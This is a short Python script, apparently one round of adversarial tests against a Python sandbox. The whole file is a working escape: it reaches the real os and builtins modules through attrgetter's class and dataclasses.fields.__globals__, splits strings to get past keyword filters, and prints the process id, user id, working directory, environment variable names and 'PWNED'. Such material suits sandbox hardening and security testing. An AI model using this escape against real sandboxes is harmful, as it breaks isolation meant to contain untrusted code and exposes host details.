# adversary round 6: attrgetter class (type of a literal attrgetter) -> dataclasses.fields.__globals__ -> sys -> sys.modules os -> os.getpid, real builtins module
import operator, dataclasses
AG = type(operator.attrgetter('real'))
g = AG('__glo' + 'bals__')(dataclasses.fields)
s = g['s' + 'ys']
o = s.modules['o' + 's']
b = s.modules['built' + 'ins']
pid = AG('get' + 'pid')(o)()
print("os:", o.__name__, "pid:", pid, "uid:", AG('getuid')(o)(), "cwd:", AG('getcwd')(o)())
print("builtins:", b.__name__, "has exec:", 'ex' + 'ec' in AG('__di' + 'ct__')(b))
print("environ keys:", sorted(AG('envir' + 'on')(o).keys())[:20])
if o.__name__ == 'o' + 's' and isinstance(pid, int):
    print("PWN" + "ED")
